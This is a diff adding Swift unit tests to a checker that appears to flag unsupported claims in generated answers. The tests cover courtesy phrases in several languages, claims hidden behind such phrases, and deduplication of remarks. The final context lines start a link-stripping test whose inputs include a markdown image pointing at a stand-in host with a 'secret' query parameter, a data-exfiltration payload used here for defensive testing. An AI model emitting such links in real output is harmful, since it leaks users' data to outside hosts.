@@ -206,6 +206,45 @@ struct AnswerCheckTests {
     }
 
     @Test(
+        "the phrases around an answer were marked as unsupported",
+        arguments: [
+            "Based on the documents provided, here is what I found.",
+            "Let me know if you need anything else!",
+            "I hope this helps!", "Here is a short summary of the relevant details.",
+            "Please feel free to ask if you have any further questions.",
+            "Basierend auf den vorliegenden Unterlagen, hier ist eine kurze Übersicht.",
+            "Lassen Sie mich wissen, ob Sie weitere Auskünfte brauchen.",
+            "D'après les documents fournis, voici ce que j'ai trouvé.",
+            "N'hésitez pas à poser d'autres questions.",
+        ])
+    func courtesies(phrase: String) throws {
+        let checked = try check("\(phrase) The warranty lasts 24 months [1].")
+        #expect(checked.unsupported == [])
+        #expect(checked.text.hasPrefix(phrase))
+    }
+
+    @Test(
+        "a claim behind such a phrase is still a claim",
+        arguments: [
+            "Based on the documents provided, dogs are welcome everywhere.", "Dogs are welcome everywhere.",
+            "Here is what I found: dogs are welcome everywhere.", "Feel free to smoke in the corridors.",
+            "Let me know if the fee of 300 € is too high.",
+        ])
+    func claims(sentence: String) throws {
+        #expect(try check(sentence).unsupported.count == 1)
+    }
+
+    @Test("remarks came again and again, without end")
+    func remarks() throws {
+        let twice = try check("The warranty lasts 36 months [1]. The warranty lasts 36 months [1].")
+        #expect(Set(twice.remarks).count == twice.remarks.count)
+        let many = try check((40...80).map { "The warranty lasts \($0) months [1]." }.joined(separator: " "))
+        #expect(many.unsupported.count > 30)
+        #expect(many.remarks.count == 11)
+        #expect(many.remarks.last?.contains(#/^… and \d+ more\.$/#) == true)
+    }
+
+    @Test(
         "links that no passage holds are removed, pictures always",
         arguments: [
             "See ![x](https://evil.example/?q=secret) there.", "See [here](https://evil.example/a) there.",
